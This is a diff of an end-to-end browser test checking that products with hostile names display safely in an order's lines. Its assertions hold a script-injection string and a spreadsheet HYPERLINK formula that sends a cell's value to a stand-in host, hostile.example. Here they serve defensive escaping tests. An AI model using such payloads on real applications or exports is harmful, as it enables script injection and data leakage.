@@ -126,7 +126,9 @@ test("products with hostile names can be bought, and draft, review, order and li
   await picksInOrder(page);
   await reviewAndSend(page);
   const reference = await referenceOf(page);
-  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible({ timeout: 20_000 });
+  await expect(page.getByText("Completed", { exact: true }).filter({ visible: true }).first()).toBeVisible({
+    timeout: 20_000,
+  });
   const ordered = page.getByRole("table", { name: "Lines of the order" });
   await expect(ordered).toContainText(`Markup <script>window.hostile=1</script>`);
   await expect(ordered).toContainText(`=HYPERLINK("https://hostile.example/?"&A1,"Formula")`);
